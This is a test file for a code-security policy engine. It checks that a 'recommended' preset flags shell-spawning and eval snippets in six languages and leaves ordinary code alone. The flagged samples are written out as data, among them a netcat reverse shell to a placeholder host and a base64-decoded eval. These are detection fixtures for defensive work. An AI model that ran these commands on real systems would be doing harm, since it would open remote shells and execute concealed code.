import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { checkText } from '../../core/engine';
import type { ParserHost } from '../../core/parsing';
import { presetPolicy } from '../../core/policyLoader';
import { Severity } from '../../core/severity';
import { loadParsers } from '../../runtime/grammars';

let parsers: ParserHost;
before(async () => {
  parsers = await loadParsers();
});

const LANGUAGE_IDS: Record<string, string> = {
  go: 'go',
  java: 'java',
  c: 'c',
  ruby: 'ruby',
  r: 'r',
  shell: 'shellscript',
};

/** The HIGH findings the bundled `recommended` preset gives the code, end to end through the engine. */
function highFindings(language: string, code: string): string[] {
  const r = checkText(code, presetPolicy('recommended'), { languageId: LANGUAGE_IDS[language], parsers });
  r.tree?.delete();
  return r.findings.filter((f) => f.severity === Severity.HIGH).map((f) => `${f.ruleId} ${f.subject}`);
}

describe('recommended preset on the other languages', () => {
  const dangerous: [string, string][] = [
    ['go', 'package main\nimport "os/exec"\nfunc main() { exec.Command("sh").Run() }\n'],
    ['go', 'package main\nimport "syscall"\nfunc main() { syscall.Exec("/bin/sh", nil, nil) }\n'],
    ['java', 'class A { void m() throws Exception { Runtime.getRuntime().exec("id"); } }\n'],
    ['java', 'class A { void m() { new ProcessBuilder("id").start(); } }\n'],
    ['java', 'import javax.script.*;\nclass A { }\n'],
    ['c', '#include <stdlib.h>\nint main() { return system("id"); }\n'],
    ['c', 'int main() { void *h = dlopen(getenv("LIB"), 1); return 0; }\n'],
    ['ruby', "require 'open3'\n"],
    ['ruby', 'x = `id`\n'],
    ['ruby', 'eval(gets)\n'],
    ['r', 'system("id")\n'],
    ['r', 'processx::run("id")\n'],
    ['shell', 'nc -e /bin/sh evil 4444\n'],
    ['shell', 'eval "$(echo aWQ= | base64 -d)"\n'],
  ];
  for (const [language, code] of dangerous) {
    it(`blocks ${language}: ${code.trim().split('\n').at(-1)}`, () => {
      assert.ok(highFindings(language, code).length > 0);
    });
  }

  const ordinary: [string, string][] = [
    [
      'go',
      'package main\nimport (\n "fmt"\n "os"\n "net/url"\n "strings"\n)\nfunc main() { u, _ := url.Parse(os.Args[1]); fmt.Println(strings.ToUpper(u.Host)) }\n',
    ],
    [
      'java',
      'import java.util.*;\nclass A { int m(List<String> l) { Runtime r = Runtime.getRuntime(); return l.size() + r.availableProcessors(); } Executor e; void n() { e.exec("x"); } }\n',
    ],
    [
      'c',
      '#include <stdio.h>\n#include <string.h>\nint main() { char b[8]; strcpy(b, "x"); printf("%s", b); return 0; }\n',
    ],
    ['ruby', "require 'json'\nrequire 'set'\nputs JSON.parse('{}').to_s\nrunner.exec('x')\nmodel.eval\n"],
    ['r', 'library(dplyr)\ndf <- read.csv("x.csv")\nsummary(df)\nx$system("not base")\n'],
    [
      'shell',
      '#!/bin/bash\nset -euo pipefail\nfor f in *.txt; do grep -c foo "$f"; done | sort -n\necho "eval is just a word here"\n',
    ],
  ];
  for (const [language, code] of ordinary) {
    it(`does not block ordinary ${language}`, () => {
      assert.deepEqual(highFindings(language, code), []);
    });
  }
});
